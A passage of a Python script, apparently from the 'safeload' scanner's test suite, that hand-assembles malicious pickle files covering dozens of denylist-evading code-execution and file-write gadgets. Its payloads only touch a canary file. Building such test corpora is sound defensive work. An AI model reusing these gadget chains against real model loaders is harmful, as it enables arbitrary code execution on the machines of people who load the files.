"""Craft safeload's malicious sample corpus from raw pickle opcodes.

Every sample is assembled byte by byte with the small helpers below instead of
``pickle.dumps`` of objects with a custom ``__reduce__``: that way the bytes are
exactly what an attacker would write (including streams no pickler emits, such
as crossed frames or joblib's non-pickle array data), and nothing malicious is
ever instantiated while crafting.

Effects are harmless and observable:

* code execution creates the file named by the environment variable
  ``SAFELOAD_CANARY``;
* file-writer gadgets create ``safeload_canary_write`` (relative: the tests run
  loaders in a temporary working directory);
* process corruption is observed by a check expression run after loading;
* resource exhaustion shows as ``MemoryError`` under an address-space limit;
* crashes show as a negative return code (signal).

Output is deterministic: running the script twice gives identical files. Run
``python malicious_samples/craft.py [--out DIR]``; the default output directory
is the directory of this script. ``manifest.json`` describes every sample.
"""

from __future__ import annotations

import argparse
import bz2
import hashlib
import json
import lzma
import marshal
import struct
import sys
import zipfile
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path
from typing import Any

# ---------------------------------------------------------------------------
# Payload constants
# ---------------------------------------------------------------------------

#: Python source run by code-execution payloads: touch the canary file.
PY = "open(__import__('os').environ['SAFELOAD_CANARY'],'w').close()"
#: Shell command run by command-execution payloads.
SH = 'touch "$SAFELOAD_CANARY"'
#: argv form of SH, for exec-style gadgets.
ARGV = ["/bin/sh", "-c", SH]
#: Relative file name created by file-writer gadgets (in the loader's cwd).
WRITE_NAME = "safeload_canary_write"
#: Name under which the nested-pickle sidecar is placed in the loader's cwd.
SIDECAR = "safeload_sidecar.pkl"
#: Value written by process-corruption payloads.
PWNED = "safeload-pwned"

# ---------------------------------------------------------------------------
# Opcode assembly helpers (see pickletools for the opcode reference)
# ---------------------------------------------------------------------------

MARK = b"("
STOP = b"."
POP = b"0"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
EMPTY_TUPLE = b")"
TUPLE = b"t"
EMPTY_LIST = b"]"
APPENDS = b"e"
EMPTY_DICT = b"}"
SETITEMS = b"u"
REDUCE = b"R"
BUILD = b"b"
NEWOBJ = b"\x81"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
OBJ = b"o"
BINPERSID = b"Q"
NEXT_BUFFER = b"\x97"
READONLY_BUFFER = b"\x98"


def proto(n: int) -> bytes:
    """PROTO opcode."""
    return b"\x80" + bytes([n])


def frame(body: bytes) -> bytes:
    """FRAME opcode announcing ``len(body)`` bytes, followed by the body."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def u(text: str) -> bytes:
    """Unicode string: SHORT_BINUNICODE (protocol 4) or BINUNICODE."""
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def u2(text: str) -> bytes:
    """Unicode string with BINUNICODE, as protocol 1-3 picklers write it."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def s0(text: str) -> bytes:
    """Protocol 0 STRING opcode (quoted repr, newline terminated)."""
    return b"S" + repr(text).encode("ascii") + b"\n"


def by(data: bytes) -> bytes:
    """Bytes: SHORT_BINBYTES or BINBYTES."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def i(n: int) -> bytes:
    """Integer: BININT1, BININT2, BININT or LONG1."""
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode (text form, every protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL with its two strings (protocol 4+; dotted names walk attributes)."""
    return u(module) + u(name) + STACK_GLOBAL


def binput(idx: int) -> bytes:
    """BINPUT (1-byte memo index)."""
    return b"q" + bytes([idx])


def binget(idx: int) -> bytes:
    """BINGET (1-byte memo index)."""
    return b"h" + bytes([idx])


def long_binput(idx: int) -> bytes:
    """LONG_BINPUT (4-byte memo index)."""
    return b"r" + struct.pack("<I", idx)


def long_binget(idx: int) -> bytes:
    """LONG_BINGET (4-byte memo index)."""
    return b"j" + struct.pack("<I", idx)


class Raw(bytes):
    """Already-assembled opcodes, embedded as is by :func:`v`."""


def v(obj: Any) -> bytes:
    """Assemble a literal value (None/bool/int/str/bytes/tuple/list/dict/Raw)."""
    if isinstance(obj, Raw):
        return bytes(obj)
    if obj is None:
        return NONE
    if obj is True:
        return NEWTRUE
    if obj is False:
        return NEWFALSE
    if isinstance(obj, int):
        return i(obj)
    if isinstance(obj, str):
        return u(obj)
    if isinstance(obj, bytes):
        return by(obj)
    if isinstance(obj, tuple):
        return tup(*obj)
    if isinstance(obj, list):
        if not obj:
            return EMPTY_LIST
        return EMPTY_LIST + MARK + b"".join(v(x) for x in obj) + APPENDS
    if isinstance(obj, dict):
        if not obj:
            return EMPTY_DICT
        body = b"".join(v(k) + v(x) for k, x in obj.items())
        return EMPTY_DICT + MARK + body + SETITEMS
    raise TypeError(f"cannot assemble {type(obj).__name__}")


def tup(*items: Any) -> bytes:
    """Tuple: EMPTY_TUPLE, TUPLE1-3 or MARK ... TUPLE."""
    if not items:
        return EMPTY_TUPLE
    body = b"".join(v(x) for x in items)
    if len(items) <= 3:
        return body + bytes([0x84 + len(items)])  # TUPLE1, TUPLE2, TUPLE3
    return MARK + body + TUPLE


def call(func: bytes, *args: Any) -> bytes:
    """``func(*args)`` via REDUCE; ``func`` is assembled opcodes."""
    return func + tup(*args) + REDUCE


def pk(body: bytes, protocol: int = 4, framed: bool = True) -> bytes:
    """Wrap ``body`` into a complete pickle: PROTO, optional FRAME, STOP."""
    if protocol >= 4 and framed:
        return proto(protocol) + frame(body + STOP)
    return proto(protocol) + body + STOP


def build_class_attr(cls: bytes, attrs: dict[str, Any]) -> bytes:
    """BUILD with ``(None, slotstate)``: setattr() on whatever is on the stack."""
    return cls + tup(None, attrs) + BUILD


# numpy helpers -------------------------------------------------------------


def np_dtype(code: str, state: tuple[Any, ...]) -> bytes:
    """``numpy.dtype(code, False, True)`` followed by BUILD(state), as numpy pickles it."""
    return call(sglob("numpy", "dtype"), code, False, True) + tup(*state) + BUILD


def np_simple_dtype(code: str) -> bytes:
    """A plain little-endian numeric dtype such as ``<f8``."""
    return np_dtype(code, (3, "<", None, None, None, -1, -1, 0))


DT_U1 = (3, "|", None, None, None, -1, -1, 0)
DT_OBJ = (3, "|", None, None, None, -1, -1, 63)
DT_V0 = (3, "|", None, None, None, 0, 1, 0)

RECONSTRUCT = ("numpy._core.multiarray", "_reconstruct")


def np_array(shape: tuple[int, ...], dtype: bytes, data: bytes | list[Any]) -> bytes:
    """``_reconstruct(ndarray, (0,), b'b')`` + BUILD ``(1, shape, dtype, False, data)``."""
    head = call(sglob(*RECONSTRUCT), Raw(sglob("numpy", "ndarray")), (0,), b"b")
    return head + tup(1, shape, Raw(dtype), False, data) + BUILD


# joblib helpers -------------------------------------------------------------


def jl_wrapper(
    shape: tuple[int, ...],
    dtype: bytes,
    *,
    allow_mmap: bool = False,
    alignment: int | None = 16,
) -> bytes:
    """joblib ``NumpyArrayWrapper`` instance + BUILD, as ``joblib.dump`` writes it."""
    state: dict[str, Any] = {
        "subclass": Raw(sglob("numpy", "ndarray")),
        "shape": shape,
        "order": "C",
        "dtype": Raw(dtype),
        "allow_mmap": allow_mmap,
    }
    if alignment is not None:
        state["numpy_array_alignment_bytes"] = alignment
    obj = sglob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    return obj + v(state) + BUILD


def jl_array_bytes(raw: bytes, padding: int) -> bytes:
    """joblib's non-pickle array data: padding-length byte, padding, raw bytes."""
    return bytes([padding]) + b"\xff" * padding + raw


# container helpers ----------------------------------------------------------

ZIP_DATE = (1980, 1, 1, 0, 0, 0)


def make_zip(members: Sequence[tuple[str, bytes, int]]) -> bytes:
    """Deterministic zip archive from ``(name, data, compress_type)`` triples."""
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data, ctype in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = ctype
            info.external_attr = 0o600 << 16
            info.create_system = 3
            zf.writestr(info, data)
    return buf.getvalue()


def skops_node(loader: str, module: str, cls: str, **extra: Any) -> dict[str, Any]:
    """A skops schema node."""
    return {"__class__": cls, "__module__": module, "__loader__": loader, **extra}


def skops_json(value: Any) -> dict[str, Any]:
    """A skops JsonNode holding a JSON-serialisable primitive."""
    return skops_node("JsonNode", "builtins", type(value).__name__, content=json.dumps(value), is_json=True)


def skops_tuple(*items: dict[str, Any]) -> dict[str, Any]:
    """A skops TupleNode."""
    return skops_node("TupleNode", "builtins", "tuple", content=list(items))


def skops_archive(root: dict[str, Any], extra: Sequence[tuple[str, bytes, int]] = ()) -> bytes:
    """A skops archive: ``schema.json`` (protocol 2) plus extra members."""
    schema = {**root, "protocol": 2, "_skops_version": "0.16.0"}
    text = json.dumps(schema, indent=2, sort_keys=True).encode()
    return make_zip([("schema.json", text, zipfile.ZIP_STORED), *extra])


def npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    """A numpy ``.npy`` v1.0 header (magic, length, dict padded to 64 bytes)."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")


def zip_many_members(count: int, first: bytes) -> bytes:
    """A zip whose central directory lists ``count`` extra empty-named members.

    ``first`` is a complete single-member zip (``schema.json``). Every extra
    central-directory entry points at that member's local header, so the file
    stays ~46 bytes per member; a ZIP64 end record carries the count (> 65535).
    """
    eocd_pos = first.rindex(b"PK\x05\x06")
    (cd_size, cd_offset) = struct.unpack("<II", first[eocd_pos + 12 : eocd_pos + 20])
    local = first[:cd_offset]
    central = first[cd_offset : cd_offset + cd_size]
    extra_entry = struct.pack(
        "<4s6H3I5H2I",
        b"PK\x01\x02",
        (3 << 8) | 20,  # made by: unix, 2.0
        20,  # needed
        0,  # flags
        0,  # stored
        0,  # time
        0x21,  # date 1980-01-01
        0,  # crc
        0,  # compressed size
        0,  # uncompressed size
        0,  # name length
        0,  # extra length
        0,  # comment length
        0,  # disk
        0,  # internal attr
        0,  # external attr
        0,  # local header offset
    )
    central += extra_entry * count
    total = count + 1
    cd_start = len(local)
    zip64_eocd_pos = cd_start + len(central)
    zip64_eocd = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, total, total, len(central), cd_start)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, zip64_eocd_pos, 1)
    eocd = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + central + zip64_eocd + locator + eocd


# ---------------------------------------------------------------------------
# Sample registry
# ---------------------------------------------------------------------------

CANARY: dict[str, Any] = {"kind": "canary"}
WRITE: dict[str, Any] = {"kind": "write", "path": WRITE_NAME}
MEMORY: dict[str, Any] = {"kind": "memory"}
#: the method run after loading does not return within a few seconds (the healthy model: milliseconds)
HANG: dict[str, Any] = {"kind": "hang"}
CRASH: dict[str, Any] = {"kind": "crash"}
ACCEPTED: dict[str, Any] = {"kind": "accepted"}


def check(expr: str) -> dict[str, Any]:
    """Effect observed by evaluating ``expr`` in the loading process afterwards."""
    return {"kind": "check", "check": expr}


@dataclass
class Sample:
    """One malicious file and what it is expected to do."""

    file: str
    technique: str
    section: str
    description: str
    data: bytes
    container: str
    effect: dict[str, Any]
    error: str = "UnsafeModelError"
    global_: str | None = None
    related: list[str] = field(default_factory=list)
    loader: str = "pickle"
    load_kwargs: dict[str, Any] = field(default_factory=dict)
    after_load: str | None = None
    sidecars: list[dict[str, str]] = field(default_factory=list)

    def manifest_entry(self) -> dict[str, Any]:
        """JSON description consumed by tests/test_malicious.py."""
        return {
            "file": self.file,
            "technique": self.technique,
            "section": self.section,
            "description": self.description,
            "container": self.container,
            "loader": self.loader,
            "load_kwargs": self.load_kwargs,
            "after_load": self.after_load,
            "sidecars": self.sidecars,
            "effect": self.effect,
            "expected": {"error": self.error, "global": self.global_},
            "related_globals": self.related,
            "isolate": self.effect["kind"] in {"check", "memory", "crash", "hang"},
            "size": len(self.data),
            "sha256": hashlib.sha256(self.data).hexdigest(),
        }


SIDECAR_REF = [{"src": "s1_builtins_exec.pkl", "dest": SIDECAR}]


def section1() -> list[Sample]:
    """§1: calling code through names a denylist misses, every global-resolving opcode."""
    out: list[Sample] = []

    def add(file: str, technique: str, desc: str, data: bytes, glob_name: str | None, **kw: Any) -> None:
        kw.setdefault("effect", CANARY)
        kw.setdefault("container", "pickle")
        out.append(Sample(file, technique, "1", desc, data, global_=glob_name, **kw))

    add(
        "s1_builtins_exec.pkl",
        "builtins-exec",
        "Baseline: builtins.exec(src). Also the nested pickle other gadgets load as a sidecar.",
        pk(call(sglob("builtins", "exec"), PY)),
        "builtins.exec",
    )
    add(
        "s1_runpy_run_code.pkl",
        "runpy-run-code",
        "runpy._run_code(src, {}) execs a source string.",
        pk(call(sglob("runpy", "_run_code"), PY, {})),
        "runpy._run_code",
    )
    add(
        "s1_timeit_timeit.pkl",
        "timeit-setup",
        "timeit.timeit('pass', setup=src) compiles and runs setup once.",
        pk(call(sglob("timeit", "timeit"), "pass", PY)),
        "timeit.timeit",
    )
    add(
        "s1_cprofile_run.pkl",
        "cprofile-run",
        "cProfile.run(src) execs in __main__ (protocol 2, GLOBAL opcode).",
        proto(2) + glob("cProfile", "run") + MARK + u2(PY) + TUPLE + REDUCE + STOP,
        "cProfile.run",
    )
    add(
        "s1_profile_run.pkl",
        "profile-run",
        "profile.run(src): the pure-Python twin of cProfile.run.",
        pk(call(sglob("profile", "run"), PY)),
        "profile.run",
    )
    interp = call(sglob("code", "InteractiveInterpreter"))
    add(
        "s1_code_interactive_interpreter.pkl",
        "code-interactiveinterpreter",
        "code.InteractiveInterpreter.runsource(InteractiveInterpreter(), src) via a dotted name.",
        pk(sglob("code", "InteractiveInterpreter.runsource") + tup(Raw(interp), PY) + REDUCE),
        "code.InteractiveInterpreter.runsource",
    )
    add(
        "s1_pydoc_pipepager.pkl",
        "pydoc-pipepager",
        "pydoc.pipepager(text, cmd) runs cmd with shell=True.",
        pk(call(sglob("pydoc", "pipepager"), "", SH)),
        "pydoc.pipepager",
    )
    add(
        "s1_pydoc_locate.pkl",
        "pydoc-locate",
        "pydoc.locate('os.system') resolves any dotted name; the result is then called.",
        pk(call(call(sglob("pydoc", "locate"), "os.system"), SH)),
        "pydoc.locate",
    )
    add(
        "s1_pkgutil_resolve_name.pkl",
        "pkgutil-resolve-name",
        "pkgutil.resolve_name('os:system') then call.",
        pk(call(call(sglob("pkgutil", "resolve_name"), "os:system"), SH)),
        "pkgutil.resolve_name",
    )
    getter = call(call(sglob("operator", "attrgetter"), "__builtins__.get"), Raw(sglob("sklearn.base", "clone")))
    add(
        "s1_operator_attrgetter.pkl",
        "operator-attrgetter",
        "operator.attrgetter('__builtins__.get')(sklearn.base.clone)('exec')(src).",
        pk(call(call(getter, "exec"), PY)),
        "operator.attrgetter",
        related=["sklearn.base.clone"],
    )
    os_module = call(sglob("sys", "modules.get"), "os")
    add(
        "s1_operator_methodcaller.pkl",
        "operator-methodcaller",
        "_operator.methodcaller('system', cmd)(sys.modules.get('os')).",
        pk(call(call(sglob("_operator", "methodcaller"), "system", SH), Raw(os_module))),
        "_operator.methodcaller",
        related=["sys.modules.get"],
    )
    partial = sglob("posix", "system") + MEMOIZE + POP
    partial += call(call(sglob("functools", "partial"), Raw(binget(0)), SH))
    add(
        "s1_functools_partial.pkl",
        "functools-partial",
        "functools.partial(posix.system, cmd)() - the callable hides inside a partial.",
        pk(partial),
        "posix.system",
        related=["functools.partial"],
    )
    code_obj = marshal.dumps(compile(PY, "<safeload>", "exec"), 2)
    func = call(sglob("types", "FunctionType"), Raw(call(sglob("marshal", "loads"), code_obj)), {})
    add(
        "s1_marshal_functiontype.pkl",
        "marshal-functiontype",
        "types.FunctionType(marshal.loads(code), {})() (CPython 3.11 bytecode).",
        pk(call(func)),
        "types.FunctionType",
        related=["marshal.loads"],
    )
    add(
        "s1_ctypes_pyrun.pkl",
        "ctypes-pythonapi",
        "ctypes.pythonapi.PyRun_SimpleString(b'src') via a dotted name.",
        pk(call(sglob("ctypes", "pythonapi.PyRun_SimpleString"), PY.encode())),
        "ctypes.pythonapi.PyRun_SimpleString",
    )
    add(
        "s1_subprocess_run.pkl",
        "subprocess-run",
        "subprocess.run(['/bin/sh', '-c', cmd]).",
        pk(call(sglob("subprocess", "run"), ARGV)),
        "subprocess.run",
    )
    add(
        "s1_os_system_proto0.pkl",
        "opcode-global-proto0",
        "Classic protocol 0 text pickle: GLOBAL os.system + REDUCE.",
        glob("os", "system") + MARK + s0(SH) + TUPLE + REDUCE + STOP,
        "os.system",
    )
    add(
        "s1_posix_system_stack_global.pkl",
        "opcode-stack-global",
        "STACK_GLOBAL posix.system (the module os.system really lives in).",
        pk(call(sglob("posix", "system"), SH)),
        "posix.system",
    )
    add(
        "s1_os_spawnv.pkl",
        "os-spawnv",
        "os.spawnv(P_WAIT, '/bin/sh', argv).",
        pk(call(sglob("os", "spawnv"), 0, "/bin/sh", ARGV)),
        "os.spawnv",
    )
    add(
        "s1_uuid_get_command_stdout.pkl",
        "uuid-get-command-stdout",
        "uuid._get_command_stdout('sh', '-c', cmd).",
        pk(call(sglob("uuid", "_get_command_stdout"), "sh", "-c", SH)),
        "uuid._get_command_stdout",
    )
    add(
        "s1_osx_support_read_output.pkl",
        "osx-support-read-output",
        "_osx_support._read_output(cmd) runs os.system (temp file in $TMPDIR).",
        pk(call(sglob("_osx_support", "_read_output"), SH)),
        "_osx_support._read_output",
    )
    add(
        "s1_imaplib_imap4_stream.pkl",
        "imaplib-imap4-stream",
        "imaplib.IMAP4_stream(cmd) spawns cmd with shell=True (then fails the handshake).",
        pk(call(sglob("imaplib", "IMAP4_stream"), SH)),
        "imaplib.IMAP4_stream",
    )
    add(
        "s1_multiprocessing_spawnv_passfds.pkl",
        "multiprocessing-spawnv-passfds",
        "multiprocessing.util.spawnv_passfds('/bin/sh', argv, []) forks and execs.",
        pk(call(sglob("multiprocessing.util", "spawnv_passfds"), b"/bin/sh", ARGV, [])),
        "multiprocessing.util.spawnv_passfds",
    )
    tracer = call(sglob("trace", "Trace"), 0, 0)
    add(
        "s1_trace_run.pkl",
        "trace-run",
        "trace.Trace.run(Trace(0, 0), src) execs in __main__.",
        pk(sglob("trace", "Trace.run") + tup(Raw(tracer), PY) + REDUCE),
        "trace.Trace.run",
    )
    add(
        "s1_doctest_debug_script.pkl",
        "doctest-debug-script",
        "doctest.debug_script(src, pm=True) execs src.",
        pk(call(sglob("doctest", "debug_script"), PY, True)),
        "doctest.debug_script",
    )
    add(
        "s1_idlelib_calltip_get_entity.pkl",
        "idlelib-calltip",
        "idlelib.calltip.get_entity(expr) evals expr.",
        pk(call(sglob("idlelib.calltip", "get_entity"), PY)),
        "idlelib.calltip.get_entity",
    )
    add(
        "s1_venv_create.pkl",
        "venv-create",
        "venv.create(dir, symlinks=True) writes a virtual environment into the cwd.",
        pk(call(sglob("venv", "create"), WRITE_NAME, False, False, True)),
        "venv.create",
        effect=WRITE,
    )
    add(
        "s1_distutils_spawn.pkl",
        "distutils-spawn",
        "distutils.spawn.spawn(argv) (stdlib or setuptools' copy).",
        pk(call(sglob("distutils.spawn", "spawn"), ARGV)),
        "distutils.spawn.spawn",
    )
    grammar = call(sglob("lib2to3.pgen2.grammar", "Grammar"))
    add(
        "s1_lib2to3_grammar_load.pkl",
        "lib2to3-grammar-load",
        "lib2to3 Grammar().load(path) runs pickle.load on a file the model names.",
        pk(sglob("lib2to3.pgen2.grammar", "Grammar.load") + tup(Raw(grammar), SIDECAR) + REDUCE),
        "lib2to3.pgen2.grammar.Grammar.load",
        sidecars=SIDECAR_REF,
    )
    add(
        "s1_pickle_loads_nested.pkl",
        "pickle-loads-nested",
        "pickle.loads(bytes) of a nested malicious pickle scanners do not open.",
        pk(call(sglob("pickle", "loads"), pk(call(sglob("builtins", "exec"), PY)))),
        "pickle.loads",
        related=["builtins.exec"],
    )
    imp = call(sglob("builtins", "__import__"), "os")
    add(
        "s1_builtins_getattr_import.pkl",
        "builtins-getattr-import",
        "builtins.getattr(builtins.__import__('os'), 'system')(cmd).",
        pk(call(call(sglob("builtins", "getattr"), Raw(imp), "system"), SH)),
        "builtins.getattr",
        related=["builtins.__import__"],
    )
    # library gadgets --------------------------------------------------------
    add(
        "s1_numpy_runstring.pkl",
        "numpy-runstring",
        "numpy.testing._private.utils.runstring(src, {}) (GLOBAL opcode, protocol 2).",
        proto(2)
        + glob("numpy.testing._private.utils", "runstring")
        + MARK
        + u2(PY)
        + EMPTY_DICT
        + TUPLE
        + REDUCE
        + STOP,
        "numpy.testing._private.utils.runstring",
    )
    add(
        "s1_numpy_load_allow_pickle.pkl",
        "numpy-load-pickle",
        "numpy.load(path, None, True) unpickles a sidecar file with allow_pickle=True.",
        pk(call(sglob("numpy", "load"), SIDECAR, None, True)),
        "numpy.load",
        sidecars=SIDECAR_REF,
    )
    add(
        "s1_numpy_save.pkl",
        "numpy-save",
        "numpy.save writes a file.",
        pk(call(sglob("numpy", "save"), WRITE_NAME + ".npy", [])),
        "numpy.save",
        effect={"kind": "write", "path": WRITE_NAME + ".npy"},
    )
    add(
        "s1_numpy_savetxt.pkl",
        "numpy-savetxt",
        "numpy.savetxt writes a text file.",
        pk(call(sglob("numpy", "savetxt"), WRITE_NAME, [[1]])),
        "numpy.savetxt",
        effect=WRITE,
    )
    add(
        "s1_numpy_memmap.pkl",
        "numpy-memmap",
        "numpy.memmap(path, 'u1', 'w+', 0, (1,)) creates a file.",
        pk(call(sglob("numpy", "memmap"), WRITE_NAME, "u1", "w+", 0, (1,))),
        "numpy.memmap",
        effect=WRITE,
    )
    add(
        "s1_numpy_f2py_myeval.pkl",
        "numpy-f2py-eval",
        "numpy.f2py.crackfortran.myeval(expr) evals expr.",
        pk(call(sglob("numpy.f2py.crackfortran", "myeval"), PY)),
        "numpy.f2py.crackfortran.myeval",
    )
    add(
        "s1_joblib_load_nested.pkl",
        "joblib-load",
        "joblib.load(path) of a sidecar pickle.",
        pk(call(sglob("joblib", "load"), SIDECAR)),
        "joblib.load",
        sidecars=SIDECAR_REF,
    )
    add(
        "s1_joblib_dump.pkl",
        "joblib-dump",
        "joblib.dump(0, path) writes a file.",
        pk(call(sglob("joblib", "dump"), 0, WRITE_NAME)),
        "joblib.dump",
        effect=WRITE,
    )
    add(
        "s1_sklearn_testing_run_script.pkl",
        "sklearn-testing-run-script",
        "sklearn.utils._testing.assert_run_python_script_without_output(src) runs a script.",
        pk(call(sglob("sklearn.utils._testing", "assert_run_python_script_without_output"), PY)),
        "sklearn.utils._testing.assert_run_python_script_without_output",
    )
    svm = call(
        sglob("sklearn.datasets", "dump_svmlight_file"),
        Raw(EMPTY_LIST + MARK + EMPTY_LIST + MARK + i(1) + APPENDS + APPENDS),
        [1],
        WRITE_NAME,
    )
    add(
        "s1_sklearn_dump_svmlight.pkl",
        "sklearn-dump-svmlight",
        "sklearn.datasets.dump_svmlight_file([[1]], [1], path) writes a file.",
        pk(svm),
        "sklearn.datasets.dump_svmlight_file",
        effect=WRITE,
    )
    # dotted names -----------------------------------------------------------
    add(
        "s1_dotted_numpy_runstring.pkl",
        "dotted-numpy-runstring",
        "STACK_GLOBAL('numpy', 'testing._private.utils.runstring') walks attributes.",
        pk(call(sglob("numpy", "testing._private.utils.runstring"), PY, {})),
        "numpy.testing._private.utils.runstring",
    )
    add(
        "s1_dotted_logging_os_system.pkl",
        "dotted-logging-os-system",
        "STACK_GLOBAL('logging', 'os.system'): a module's import of os is reachable.",
        pk(call(sglob("logging", "os.system"), SH)),
        "logging.os.system",
    )
    add(
        "s1_dotted_sklearn_clone_builtins.pkl",
        "dotted-sklearn-clone-builtins",
        "STACK_GLOBAL('sklearn.base', 'clone.__builtins__.get')('exec')(src).",
        pk(call(call(sglob("sklearn.base", "clone.__builtins__.get"), "exec"), PY)),
        "sklearn.base.clone.__builtins__.get",
    )
    add(
        "s1_dotted_numpy_builtins.pkl",
        "dotted-numpy-builtins",
        "STACK_GLOBAL('numpy', '__builtins__.get')('eval')(expr).",
        pk(call(call(sglob("numpy", "__builtins__.get"), "eval"), PY)),
        "numpy.__builtins__.get",
    )
    add(
        "s1_dotted_os_environ_setitem.pkl",
        "dotted-os-environ-setitem",
        "STACK_GLOBAL('os', 'environ.__setitem__') changes the process environment.",
        pk(call(sglob("os", "environ.__setitem__"), "SAFELOAD_PWNED", PWNED)),
        "os.environ.__setitem__",
        effect=check(f"__import__('os').environ.get('SAFELOAD_PWNED') == {PWNED!r}"),
    )
    # Python 2 names remapped by fix_imports (protocol < 3) --------------------
    add(
        "s1_py2_builtin_eval.pkl",
        "py2-builtin-eval",
        "Protocol 2 GLOBAL __builtin__.eval, remapped to builtins.eval on load.",
        proto(2) + glob("__builtin__", "eval") + MARK + u2(PY) + TUPLE + REDUCE + STOP,
        "builtins.eval",
        related=["__builtin__.eval"],
    )
    add(
        "s1_py2_commands_getoutput.pkl",
        "py2-commands-getoutput",
        "Protocol 0 GLOBAL commands.getoutput, remapped to subprocess.getoutput.",
        glob("commands", "getoutput") + MARK + s0(SH) + TUPLE + REDUCE + STOP,
        "subprocess.getoutput",
        related=["commands.getoutput"],
    )
    py2_ext = proto(2) + glob("copy_reg", "add_extension") + MARK + u2("posix") + u2("system")
    py2_ext += i(0x2345) + TUPLE + REDUCE + POP
    py2_ext += b"\x83" + struct.pack("<H", 0x2345) + MARK + u2(SH) + TUPLE + REDUCE + STOP
    add(
        "s1_py2_copy_reg_ext2.pkl",
        "py2-copy-reg-extension",
        "copy_reg.add_extension (remapped to copyreg) registers posix.system, EXT2 calls it.",
        py2_ext,
        "copyreg.add_extension",
        related=["copy_reg.add_extension", "posix.system"],
    )
    # every opcode that resolves a global ------------------------------------
    add(
        "s1_opcode_inst.pkl",
        "opcode-inst",
        "Protocol 0 INST posix.system: MARK args INST module name.",
        MARK + s0(SH) + b"iposix\nsystem\n" + STOP,
        "posix.system",
    )
    add(
        "s1_opcode_obj.pkl",
        "opcode-obj",
        "Protocol 1 OBJ: MARK GLOBAL os.system arg OBJ calls it.",
        MARK + glob("os", "system") + u2(SH) + OBJ + STOP,
        "os.system",
    )
    for opname, opcode, code in (
        ("ext1", b"\x82" + bytes([0xA1]), 0xA1),
        ("ext2", b"\x83" + struct.pack("<H", 0x1234), 0x1234),
        ("ext4", b"\x84" + struct.pack("<i", 0x123456), 0x123456),
    ):
        body = call(sglob("copyreg", "add_extension"), "os", "system", code) + POP
        body += opcode + tup(SH) + REDUCE
        add(
            f"s1_opcode_{opname}.pkl",
            f"opcode-{opname}",
            f"copyreg.add_extension('os', 'system', {code:#x}) then {opname.upper()} resolves it.",
            pk(body, protocol=2),
            "copyreg.add_extension",
            related=["os.system"],
        )
    add(
        "s1_opcode_persid.pkl",
        "opcode-persid",
        "Protocol 0 PERSID: a persistent id has no business in a model file.",
        b"(lp0\nPsafeload-persistent-id\np1\na.",
        None,
        loader="pickle_persistent",
        effect=ACCEPTED,
    )
    add(
        "s1_opcode_binpersid.pkl",
        "opcode-binpersid",
        "BINPERSID with a torch-style storage tuple.",
        pk(tup("storage", "safeload", 0) + BINPERSID, protocol=2),
        None,
        loader="pickle_persistent",
        effect=ACCEPTED,
    )
    add(
        "s1_opcode_next_buffer.pkl",
        "opcode-next-buffer",
        "Protocol 5 NEXT_BUFFER + READONLY_BUFFER: out-of-band data from the caller.",
        pk(NEXT_BUFFER + READONLY_BUFFER, protocol=5),
        None,
        loader="pickle_buffers",
        effect=ACCEPTED,
    )
    return out


def sklearn_tree_oob() -> bytes:
    """A DecisionTreeRegressor whose root's children point far outside ``nodes``."""
    i8 = np_simple_dtype("i8")
    f8 = np_simple_dtype("f8")
    names = (
        "left_child",
        "right_child",
        "feature",
        "threshold",
        "impurity",
        "n_node_samples",
        "weighted_n_node_samples",
        "missing_go_to_left",
    )
    fields = {
        "left_child": Raw(tup(Raw(i8), 0)),
        "right_child": Raw(tup(Raw(i8), 8)),
        "feature": Raw(tup(Raw(i8), 16)),
        "threshold": Raw(tup(Raw(f8), 24)),
        "impurity": Raw(tup(Raw(f8), 32)),
        "n_node_samples": Raw(tup(Raw(i8), 40)),
        "weighted_n_node_samples": Raw(tup(Raw(f8), 48)),
        "missing_go_to_left": Raw(tup(Raw(np_dtype("u1", DT_U1)), 56)),
    }
    node_dtype = np_dtype("V64", (3, "|", None, names, fields, 64, 1, 16))
    far = 1 << 40
    leaf = struct.pack("<qqqddqdB7x", -1, -1, -2, -2.0, 0.0, 1, 1.0, 0)
    root = struct.pack("<qqqddqdB7x", far, far + 1, 0, 0.5, 0.25, 2, 2.0, 0)
    nodes = np_array((3,), node_dtype, root + leaf + leaf)
    values = np_array((3, 1, 1), f8, struct.pack("<3d", 0.5, 0.0, 1.0))
    n_classes = np_array((1,), i8, struct.pack("<q", 1))
    tree = call(sglob("sklearn.tree._tree", "Tree"), 1, Raw(n_classes), 1)
    tree += v({"max_depth": 1, "node_count": 3, "nodes": Raw(nodes), "values": Raw(values)})
    tree += BUILD
    return decision_tree_regressor(tree)


